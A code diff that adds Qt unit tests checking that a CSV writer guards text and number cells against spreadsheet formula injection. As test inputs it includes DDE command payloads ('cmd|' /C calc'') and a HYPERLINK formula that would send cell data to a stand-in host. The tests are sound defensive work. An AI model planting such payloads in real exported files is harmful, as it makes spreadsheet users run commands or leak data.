@@ -1,5 +1,5 @@
-// Tests for model/core: RFC 4180 parsing, quoted-number and period parsing, figure rules, how
-// untrusted text is shown and how files are written.
+// Tests for model/core: RFC 4180 parsing and spreadsheet-safe writing, quoted-number and period
+// parsing, figure rules, how untrusted text is shown and how files are written.
 #include "core/atomic_write.h"
 #include "core/csv.h"
 #include "core/figure.h"
@@ -12,6 +12,7 @@
 #include <QTest>
 
 #include <cmath>
+#include <string_view>
 
 #include <sys/stat.h>
 
@@ -25,6 +26,10 @@ private Q_SLOTS:
     void csvRejects_data();
     void csvRejects();
     void csvRoundTrips();
+    void textCellsAreSpreadsheetSafe_data();
+    void textCellsAreSpreadsheetSafe();
+    void numberColumnsStayNumbers_data();
+    void numberColumnsStayNumbers();
     void quotedNumber_data();
     void quotedNumber();
     void period_data();
@@ -123,6 +128,77 @@ void TestCore::csvRoundTrips()
     QCOMPARE(parsed->size(), std::size_t(1));
     QVERIFY(parsed->front().fields == fields);
     QCOMPARE(csv::formatRecord({"a", "b"}), std::string("a,b\r\n"));
+}
+
+void TestCore::textCellsAreSpreadsheetSafe_data()
+{
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<QString>("cell"); // as written, before CSV escaping
+    QTest::newRow("plain") << "Acme Inc." << "Acme Inc.";
+    QTest::newRow("empty") << "" << "";
+    QTest::newRow("equals") << "=HYPERLINK(\"http://x/?d=\"&A2,\"click\")"
+                            << "'=HYPERLINK(\"http://x/?d=\"&A2,\"click\")";
+    QTest::newRow("plus") << "+cmd|' /C calc'!A0" << "'+cmd|' /C calc'!A0";
+    QTest::newRow("minus") << "-2+3+cmd|' /C calc'!A0" << "'-2+3+cmd|' /C calc'!A0";
+    QTest::newRow("minus and space") << "- 40% reduction in training time"
+                                     << "'- 40% reduction in training time";
+    QTest::newRow("at") << "@SUM(1+1)*cmd|' /C calc'!A0" << "'@SUM(1+1)*cmd|' /C calc'!A0";
+    QTest::newRow("tab") << "\t=1+1" << "'\t=1+1";
+    QTest::newRow("carriage return") << "\r=1+1" << "'\r=1+1";
+    QTest::newRow("formula later") << "a=1+1" << "a=1+1";
+    QTest::newRow("space first") << " =1" << " =1";
+    // A text that already begins with the guard keeps it, so that reading gives it back.
+    QTest::newRow("guard already") << "'=1+1" << "''=1+1";
+    QTest::newRow("two guards") << "''-x" << "'''-x";
+    QTest::newRow("apostrophe text") << "'tis the season" << "'tis the season";
+    QTest::newRow("lone apostrophe") << "'" << "'";
+}
+
+void TestCore::textCellsAreSpreadsheetSafe()
+{
+    QFETCH(QString, text);
+    QFETCH(QString, cell);
+    QCOMPARE(QString::fromStdString(csv::textCell(text.toStdString())), cell);
+    QCOMPARE(QString::fromStdString(csv::textFromCell(cell.toStdString())), text);
+    // Through a whole record and the parser: the cell a spreadsheet sees never starts a formula.
+    auto parsed = csv::parse(csv::formatRecord({text.toStdString(), "x"}), "cell.csv");
+    QVERIFY(parsed.ok());
+    QCOMPARE(parsed->size(), std::size_t(1));
+    const std::string &read = parsed->front().fields.front();
+    QVERIFY(read.empty() || std::string_view("=+-@\t\r").find(read.front()) == std::string_view::npos);
+    QCOMPARE(QString::fromStdString(csv::textFromCell(read)), text);
+}
+
+void TestCore::numberColumnsStayNumbers_data()
+{
+    QTest::addColumn<QStringList>("fields");
+    QTest::addColumn<QList<int>>("numbers");
+    QTest::addColumn<QByteArray>("record");
+    QTest::newRow("negative number") << QStringList{"-2.5", "-2.5"} << QList<int>{0}
+                                     << QByteArray("-2.5,'-2.5\r\n");
+    QTest::newRow("exponent") << QStringList{"1.5e+12", "-1e-05"} << QList<int>{0, 1}
+                              << QByteArray("1.5e+12,-1e-05\r\n");
+    QTest::newRow("empty number") << QStringList{"", "a"} << QList<int>{0} << QByteArray(",a\r\n");
+    QTest::newRow("formula in a number column") << QStringList{"-2+3", "=1"} << QList<int>{0, 1}
+                                                << QByteArray("'-2+3,'=1\r\n");
+    QTest::newRow("plus sign") << QStringList{"+5"} << QList<int>{0} << QByteArray("'+5\r\n");
+    QTest::newRow("infinity") << QStringList{"-inf"} << QList<int>{0} << QByteArray("'-inf\r\n");
+    QTest::newRow("quoted and guarded") << QStringList{"=A1,\"x\""} << QList<int>{}
+                                        << QByteArray("\"'=A1,\"\"x\"\"\"\r\n");
+}
+
+void TestCore::numberColumnsStayNumbers()
+{
+    QFETCH(QStringList, fields);
+    QFETCH(QList<int>, numbers);
+    QFETCH(QByteArray, record);
+    std::vector<std::string> row;
+    for (const QString &field : fields)
+        row.push_back(field.toStdString());
+    std::vector<std::size_t> numberColumns;
+    for (int column : numbers)
+        numberColumns.push_back(std::size_t(column));
+    QCOMPARE(QByteArray::fromStdString(csv::formatRecord(row, numberColumns)), record);
 }
 
 void TestCore::quotedNumber_data()
